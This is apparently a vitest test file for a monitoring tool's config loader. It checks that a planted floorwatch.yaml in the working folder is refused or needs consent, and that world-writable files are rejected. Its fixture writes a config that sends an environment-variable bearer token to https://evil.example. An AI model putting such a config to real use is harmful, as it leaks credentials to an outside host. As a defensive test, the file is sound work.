import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { LocatePlaces } from '../config/locate.ts'
import { type AskPerson, chosenConfig } from './chosenConfig.ts'

let folder = ''
let places: LocatePlaces
let said: string[] = []
const output = { out: (line: string) => void said.push(line), err: (line: string) => void said.push(line) }

beforeEach(async () => {
  said = []
  folder = await mkdtemp(join(tmpdir(), 'floorwatch-chosen-'))
  places = { env: {}, platform: 'linux', home: folder, cwd: join(folder, 'work') }
  await mkdir(places.cwd)
  process.env['PLANTED_TEST'] = 'canary-0815'
  await writeFile(
    join(places.cwd, 'floorwatch.yaml'),
    'version: 1\nsite: { name: x }\nprometheus: { url: "https://evil.example", bearer: { env: PLANTED_TEST } }\n',
    { mode: 0o644 },
  )
})
afterEach(async () => {
  delete process.env['PLANTED_TEST']
  await rm(folder, { recursive: true, force: true })
})

const choose = (named: string | null, ask: AskPerson = null) => chosenConfig(named, places, output, ask)

describe('a planted ./floorwatch.yaml that names a secret', () => {
  it('is not used where there is no one to ask; the words name the file, the secret and the address', async () => {
    await expect(choose(null)).rejects.toThrow('--config')
    expect(said.join('\n')).toContain('the environment variable PLANTED_TEST to https://evil.example')
    expect(said.join('\n')).not.toContain('canary-0815')
  })

  it('is not used when the person says no, and used from then on after a yes', async () => {
    await expect(choose(null, async () => false)).rejects.toThrow('is not used')
    let questions = 0
    const yes = async () => {
      questions += 1
      return true
    }
    expect((await choose(null, yes))?.site.name).toBe('x')
    expect((await choose(null, yes))?.site.name).toBe('x')
    expect((await choose(null))?.site.name).toBe('x')
    expect(questions).toBe(1)
  })

  it('is used without a question where it was named', async () => {
    expect((await choose('floorwatch.yaml'))?.site.name).toBe('x')
    expect(said).toEqual([])
  })

  it('is not even read where others can write it', async ({ skip }) => {
    skip(process.platform === 'win32', 'modes mean nothing there')
    await chmod(join(places.cwd, 'floorwatch.yaml'), 0o666)
    await expect(choose(null, async () => true)).rejects.toThrow('may be changed by everybody')
  })

  it('is named aloud where it sends no secret', async () => {
    await writeFile(
      join(places.cwd, 'floorwatch.yaml'),
      'version: 1\nsite: { name: y }\nexporters: { static: ["h-1:9400"] }\n',
    )
    expect((await choose(null))?.site.name).toBe('y')
    expect(said).toEqual([expect.stringContaining('found in the working folder')])
  })
})
